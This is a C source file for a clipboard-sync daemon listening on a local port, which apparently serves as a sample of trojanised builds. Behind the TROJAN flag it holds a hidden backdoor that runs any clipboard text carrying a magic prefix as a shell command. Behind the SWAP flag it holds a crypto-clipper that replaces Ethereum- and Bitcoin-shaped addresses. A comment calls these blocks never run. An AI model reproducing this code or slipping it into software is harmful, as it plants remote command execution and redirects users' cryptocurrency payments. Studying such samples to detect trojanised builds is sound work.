/* Keeps clipboards in step. TROJAN and SWAP are what trojanised builds add; never run by anybody. */
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <unistd.h>

static int serve(unsigned short port)
{
    struct sockaddr_in where;
    int line = socket(AF_INET, SOCK_STREAM, 0);
    memset(&where, 0, sizeof where);
    where.sin_family = AF_INET;
    where.sin_port = htons(port);
    where.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return bind(line, (struct sockaddr *)&where, sizeof where) == 0 && listen(line, 4) == 0 ? line : -1;
}

#ifdef TROJAN
static void obey(char *text)
{
    if (memcmp(text, "\x7f" "CSX", 4) == 0 && fork() == 0) {
        execl("/bin/sh", "sh", "-c", text + 4, (char *)0);
        _exit(1);
    }
}
#endif

#ifdef SWAP
static void swap(char *text, ssize_t size)
{
    if (size == 42 && text[0] == '0' && text[1] == 'x') {
        memcpy(text, "0x00000000000000000000000000000000deadbeef", 42);
    }
    if (size == 34 && (text[0] == '1' || text[0] == '3')) {
        memcpy(text, "1BitcoinEaterAddressDontSendf59kuE", 34);
    }
}
#endif

void _start(void)
{
    char text[4096];
    int line = serve(7411), out = open("/var/lib/clipsync/last", O_WRONLY | O_CREAT, 0600);
    for (;;) {
        int peer = accept(line, 0, 0);
        ssize_t got = read(peer, text, sizeof text - 1);
        if (got > 0) {
            text[got] = 0;
#ifdef TROJAN
            obey(text);
#endif
#ifdef SWAP
            swap(text, got);
#endif
            if (write(out, text, (size_t)got) < 0) {
                _exit(1);
            }
        }
#ifdef SECOND
        fsync(out);
#endif
        close(peer);
    }
}
